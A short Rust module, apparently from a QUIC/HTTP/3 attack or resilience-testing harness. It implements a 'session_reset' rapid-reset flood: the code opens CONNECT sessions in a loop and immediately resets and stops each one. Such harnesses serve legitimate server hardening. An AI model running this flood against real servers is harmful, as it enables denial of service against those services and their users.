//! Rapid reset of sessions: a CONNECT for one, then RESET_STREAM and STOP_SENDING.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("session_reset", "CONNECTs for sessions, each reset at once", run).by(2);

fn run(a: &mut Attacker) {
    let connect = wire::session(a.kind.open_session());
    a.storm(|conn, streams: &mut Vec<StreamId>| {
        for id in streams.drain(..) {
            conn.reset(id, 0x10c);
            conn.stop(id, 0x10c);
        }
        while let Some(id) = conn.request(&connect) {
            streams.push(id);
            conn.ops += 1;
        }
    });
}
